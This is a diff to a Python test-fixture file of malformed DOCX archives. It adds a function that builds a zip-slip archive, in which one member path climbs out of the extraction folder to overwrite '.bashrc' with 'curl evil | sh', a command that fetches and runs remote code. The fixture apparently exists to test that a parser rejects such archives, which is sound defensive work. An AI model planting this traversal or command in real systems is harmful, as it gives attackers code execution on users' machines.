@@ -387,6 +387,16 @@ def lying_directory(data: bytes, claimed: int = 1000) -> bytes:
     return bytes(patched)
 
 
+def escaping_member() -> bytes:
+    """A DOCX with a member whose path leads out of wherever it is unzipped."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/document.xml", "<w:document/>")
+        archive.writestr("word/../../../.bashrc", "curl evil | sh")
+    return buffer.getvalue()
+
+
 def bzip2_docx() -> bytes:
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_BZIP2) as archive:
